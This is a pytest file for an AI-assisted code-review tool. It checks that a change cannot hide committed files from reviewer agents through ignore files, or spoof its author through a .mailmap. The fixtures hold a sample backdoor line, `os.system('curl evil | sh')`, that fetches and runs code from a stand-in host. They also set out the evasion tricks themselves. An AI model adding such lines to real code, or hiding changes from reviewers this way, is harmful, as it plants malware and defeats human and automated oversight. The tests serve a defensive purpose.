"""A change's ignore files must not hide its own files from its reviewers (ts63).

Claude Code's Grep runs its built-in ripgrep, which skips whatever `.gitignore`, `.ignore` and
`.rgignore` list and has no setting to stop it (the real CLI: tests/e2e/test_project_config_e2e.
py::test_change_ignore_files_hide_no_file_from_the_seats_search). A change that commits
`backdoor.py` and lists it there hid it from the seat's search; those files are now moved out
of the seat's worktree while it runs. The prompt's file list never read them.
"""

from __future__ import annotations

import shlex
import sys
from pathlib import Path

from deepreview.agents._park import parked, search_ignores
from fakebin.harness import Fakes
from support.repos import commit_all, git, make_repo, write

_IGNORES = {".gitignore": "backdoor.py\n", ".ignore": "*.py\n", "sub/.rgignore": "*\n"}


def _hiding_branch(tmp_path: Path) -> Path:
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "-b", "hiding", "main")
    for rel, text in _IGNORES.items():
        write(repo, rel, text)
    write(repo, "backdoor.py", "import os\nos.system('curl evil | sh')\n")
    write(repo, "sub/tool.py", "TOOL = 1\n")
    git(repo, "add", "-f", ".")
    git(repo, "commit", "-q", "-m", "hiding")
    return repo


def test_the_prompt_lists_and_shows_a_file_the_change_ignores(tmp_path: Path) -> None:
    repo = _hiding_branch(tmp_path)
    fakes = Fakes(tmp_path)
    fakes.write_config({"echo": fakes.seat("ok")})
    res = fakes.review(repo, "--agents", "echo", "main..hiding")
    assert res.returncode == 0, res.stderr
    prompt = (Path(res.json()["review_dir"]) / "prompt-echo.md").read_text(encoding="utf-8")
    rows = [ln for ln in prompt.splitlines() if ln.startswith("| `")]
    assert any(r.startswith("| `backdoor.py`") for r in rows), rows
    assert any(r.startswith("| `sub/tool.py`") for r in rows), rows
    assert "+os.system('curl evil | sh')" in prompt


def test_ignore_files_hiding_a_tracked_file_are_parked_while_a_seat_runs(tmp_path: Path) -> None:
    repo = _hiding_branch(tmp_path)
    write(repo, "sub/.ignore/notes.py", "a folder of code, no ignore file\n")
    names = search_ignores(repo)
    assert set(names) == {".gitignore", ".ignore", ".rgignore"}
    with parked(repo, names, tmp_path / "store", files_only=True) as moved:
        assert [p.relative_to(repo).as_posix() for p in moved] == [
            ".gitignore",
            ".ignore",
            "sub/.rgignore",
        ]
        assert (repo / "sub" / ".ignore" / "notes.py").is_file()
    for rel, text in _IGNORES.items():
        assert (repo / rel).read_text(encoding="utf-8") == text


def test_a_gitignore_that_hides_nothing_tracked_stays(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    git(repo, "checkout", "-q", "main")
    write(repo, ".gitignore", "build/\n*.pyc\n")
    commit_all(repo, "ignore build output")
    assert ".gitignore" not in search_ignores(repo)


def test_a_command_seats_git_shows_the_real_author(tmp_path: Path) -> None:
    """ts63 defect 3, for a command seat (the user's own program, which may run git too): the
    change's `.mailmap` renamed its author in the seat's `git log` and `git blame`."""
    repo = make_repo(tmp_path)
    seen = tmp_path / "seen.txt"
    git(repo, "checkout", "-q", "-b", "renamed", "main")
    write(repo, "calc.py", "import os\nos.system('curl evil | sh')\n")
    commit_all(repo, "backdoor")
    author, email = git(repo, "log", "-1", "--format=%an%n%ae").strip().split("\n")
    write(repo, ".mailmap", f"Trusted Maintainer <m@x> <{email}>\n")
    commit_all(repo, "mailmap")
    git(repo, "checkout", "-q", "main")
    fakes = Fakes(tmp_path)
    seat = shlex.join([sys.executable, str(fakes.seat_script), "ok"])
    look = f"git log -1 --format=%aN >> {seen}; exec {seat}"
    fakes.write_config({"shell": {"argv": ["sh", "-c", look]}})
    res = fakes.review(repo, "--agents", "shell", "main..renamed")
    assert res.returncode == 0, res.stderr
    assert seen.read_text(encoding="utf-8") == f"{author}\n"
